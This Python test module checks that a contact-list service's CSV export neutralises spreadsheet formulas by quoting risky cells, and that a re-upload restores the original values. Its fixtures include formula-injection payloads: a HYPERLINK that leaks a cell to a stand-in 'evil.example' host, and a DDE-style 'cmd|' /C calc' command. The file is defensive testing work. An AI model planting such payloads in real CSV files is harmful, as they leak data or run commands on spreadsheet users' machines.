"""Exported CSV cells never run as spreadsheet formulas, and an export still uploads back unchanged.

The rule (``contactlists.imports.formulas``): export prefixes one ``'`` to a cell that, after its
leading quotes, starts with ``=``, ``+``, ``-``, ``@``, tab or CR; upload drops one such quote.
E.164 numbers in the phoneNumber column are exempt.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Awaitable, Callable
from typing import Any

import pytest
from httpx import AsyncClient
from hypothesis import given, settings
from hypothesis import strategies as st

from contactlists.imports.formulas import (
    QUOTE,
    TRIGGERS,
    neutralise,
    neutralise_phone,
    restore,
)
from tests.support.contacts import add_contacts, all_contacts, create_list, get_list, job
from tests.support.paths import Paths
from tests.support.tenants import Tenant
from tests.support.uploads import export, export_rows, upload_ok

RunJobs = Callable[[], Awaitable[int]]
PHONE_COLUMN = 1

# Text that leans towards the interesting prefixes: runs of quotes before triggers.
prefixed = st.builds(
    lambda quotes, head, tail: QUOTE * quotes + head + tail,
    st.integers(min_value=0, max_value=4),
    st.sampled_from([*sorted(TRIGGERS), "", "a", " ", "'", "\n", "＝"]),
    st.text(max_size=8),
)
any_text = st.one_of(st.text(), prefixed)


# ---------------------------------------------------------------- the encoding itself


@settings(max_examples=600)
@given(any_text)
def test_restore_undoes_neutralise_for_every_string(value: str) -> None:
    assert restore(neutralise(value)) == value
    assert restore(neutralise_phone(value)) == value


@settings(max_examples=600)
@given(any_text)
def test_a_neutralised_cell_never_starts_a_formula(value: str) -> None:
    cell = neutralise(value)
    assert cell[:1] not in TRIGGERS
    # Exactly one quote is added, and only when the value could be a formula.
    assert cell in (value, QUOTE + value)
    assert (cell != value) == (value.lstrip(QUOTE)[:1] in TRIGGERS and value.lstrip(QUOTE) != "")


@settings(max_examples=300)
@given(st.text(min_size=1), st.text(min_size=1))
def test_distinct_values_never_share_a_cell(first: str, second: str) -> None:
    if first != second:
        assert neutralise(first) != neutralise(second)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        (
            '=HYPERLINK("http://evil.example","click")',
            '\'=HYPERLINK("http://evil.example","click")',
        ),
        ("+1 (415) 555-0100", "'+1 (415) 555-0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcmd", "'\tcmd"),
        ("\r=1", "'\r=1"),
        # A value that already starts with quotes before a trigger gets one more: a bijection.
        ("'=1", "''=1"),
        ("''-x", "'''-x"),
        # Nothing to do: a quote not before a trigger, a trigger later on, plain text.
        ("'", "'"),
        ("'a", "'a"),
        ("' =1", "' =1"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("", ""),
        ("Ann", "Ann"),
        ("\n=1", "\n=1"),
    ],
)
def test_neutralise_examples(value: str, cell: str) -> None:
    assert neutralise(value) == cell
    assert restore(cell) == value


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("+14155550100", "+14155550100"),
        ("+442071838750", "+442071838750"),
        ("+1 415 555 0100", "'+1 415 555 0100"),
        ("+0123", "'+0123"),
        ("+1234567890123456", "'+1234567890123456"),  # 16 digits: longer than E.164 allows
        ("=1", "'=1"),
        ("4155550100", "4155550100"),
    ],
)
def test_phone_cells_keep_e164_numbers_as_they_are(value: str, cell: str) -> None:
    assert neutralise_phone(value) == cell
    assert restore(cell) == value


def test_restore_leaves_cells_that_no_export_would_write_alone() -> None:
    # Upload reads files made elsewhere too: only a quote the export could have added is dropped.
    for cell in ("=1", "+14155550100", "'", "'a", "it's", "' =1", "a'=1"):
        assert restore(cell) == cell
    # The documented ambiguity: a file made elsewhere with '= loses that quote.
    assert restore("'=1") == "=1"


# ---------------------------------------------------------------- through the routes

CUSTOM_VALUES: list[dict[str, str]] = [
    {
        "note": "=1+2",
        "=cmd": "-2+3",
        "+plus": "@at",
        "tabbed": "\t=lead",
        "cr": "\r=1",
        "quoted": "'=already quoted",
        "twoquotes": "''-x",
        "plain": "it's fine",
    },
    {
        "note": "+",
        "=cmd": "'",
        "+plus": "-",
        "tabbed": "\t",
        "cr": "@",
        "quoted": "'",
        "twoquotes": "''",
        "plain": "'+",
    },
    {
        "note": "",
        "=cmd": "a=b",
        "+plus": " =1",
        "tabbed": "x\t",
        "cr": "\n=1",
        "quoted": "it's",
        "twoquotes": "q''-",
        "plain": "Ann",
    },
]
HOSTILE_ITEMS: list[dict[str, Any]] = [
    {
        "phoneNumber": "+14155550100",
        "firstName": '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
        "lastName": "+1 (415) 555-0100",
        "uniqueId": "@SUM(1+1)*cmd|' /C calc'!A0",
        "contactPriority": "-3",
        **CUSTOM_VALUES[0],
    },
    {
        "phoneNumber": "(212) 555-0101",
        "firstName": "-",
        "lastName": "@",
        "uniqueId": "=",
        **CUSTOM_VALUES[1],
    },
    {"phoneNumber": "+442071838750", "firstName": "Ann", "uniqueId": "u-3", **CUSTOM_VALUES[2]},
]
STORED_FIELDS = ("phoneNumber", "firstName", "lastName", "timeZone", "uniqueId", "contactPriority")


def _stored(contact: dict[str, Any]) -> dict[str, Any]:
    """What a contact holds, without what a new list gives it anew (id, times)."""
    return {**{key: contact[key] for key in STORED_FIELDS}, "fields": contact["fields"]}


def _assert_no_formula_cells(text: str) -> list[list[str]]:
    rows = export_rows(text)
    for row in rows:
        for position, cell in enumerate(row):
            if position == PHONE_COLUMN and row is not rows[0]:
                continue
            assert cell[:1] not in TRIGGERS, (position, cell)
    return rows


@pytest.mark.anyio
@pytest.mark.parametrize("family", ["v1", "v2"])
async def test_export_neutralises_formulas_and_uploads_back_unchanged(
    client: AsyncClient, tenant: Tenant, run_jobs: RunJobs, unique_name: str, family: str
) -> None:
    source = await create_list(client, tenant, unique_name, allowDuplicates=True)
    job_id = await add_contacts(client, tenant, unique_name, HOSTILE_ITEMS)
    await run_jobs()
    assert (await job(client, tenant, job_id))["inserted"] == len(HOSTILE_ITEMS)
    original = await all_contacts(client, tenant, source["_id"])
    # The values are stored verbatim (known fields trimmed of surrounding spaces only).
    assert original[0]["firstName"] == HOSTILE_ITEMS[0]["firstName"]
    assert original[0]["fields"]["=cmd"] == "-2+3"
    assert original[0]["fields"]["tabbed"] == "\t=lead"

    exported = await export(client, tenant, source["_id"], family)
    rows = _assert_no_formula_cells(exported)
    header = rows[0]
    assert "'=cmd" in header
    assert "'+plus" in header
    first = dict(zip(header, rows[1], strict=True))
    assert first["firstName"] == "'" + HOSTILE_ITEMS[0]["firstName"]
    assert first["lastName"] == "'+1 (415) 555-0100"
    assert first["contactPriority"] == "'-3"
    assert first["'=cmd"] == "'-2+3"
    assert first["tabbed"] == "'\t=lead"
    assert first["quoted"] == "''=already quoted"
    assert first["plain"] == "it's fine"
    # E.164 numbers are not touched: not a formula, and a spreadsheet still sees the number.
    assert [row[PHONE_COLUMN] for row in rows[1:]] == ["+14155550100", "+12125550101",
                                                       "+442071838750"]  # fmt: skip

    copy_name = f"{unique_name} copy"
    copy = await create_list(client, tenant, copy_name, allowDuplicates=True)
    uploaded = await upload_ok(
        client, tenant, copy["_id"], exported.encode(), family=family, file_name="export.csv"
    )
    await run_jobs()
    finished = await job(client, tenant, uploaded)
    assert (finished["state"], finished["inserted"], finished["invalid"]) == (
        "completed",
        len(HOSTILE_ITEMS),
        0,
    ), finished
    restored = await all_contacts(client, tenant, copy["_id"])
    assert [_stored(contact) for contact in restored] == [_stored(c) for c in original]
    assert (await get_list(client, tenant, copy["_id"]))["columns"] == (
        await get_list(client, tenant, source["_id"])
    )["columns"]

    # And the copy exports to the same cells, ids and creation times aside.
    again = export_rows(await export(client, tenant, copy["_id"], family))
    assert [row[1:-1] for row in again] == [row[1:-1] for row in rows]


@pytest.mark.anyio
async def test_the_row_errors_csv_neutralises_formulas(
    client: AsyncClient, tenant: Tenant, run_jobs: RunJobs, unique_name: str
) -> None:
    await create_list(client, tenant, unique_name)
    job_id = await add_contacts(
        client,
        tenant,
        unique_name,
        [
            {"phoneNumber": '=HYPERLINK("http://evil.example")'},
            {"phoneNumber": "+14155550100", "timeZone": "@Mars/Olympus"},
        ],
    )
    await run_jobs()
    response = await client.get(
        f"{Paths('v1', tenant.bot).prefix}/jobs/{job_id}/errors",
        headers={**tenant.headers(), "Accept": "text/csv"},
    )
    assert response.status_code == 200, response.text
    rows = list(csv.reader(io.StringIO(response.text, newline="")))
    assert rows[0] == ["row", "field", "code", "value", "message"]
    assert [row[3] for row in rows[1:]] == ['\'=HYPERLINK("http://evil.example")', "'@Mars/Olympus"]
    for row in rows:
        for cell in row:
            assert cell[:1] not in TRIGGERS, row
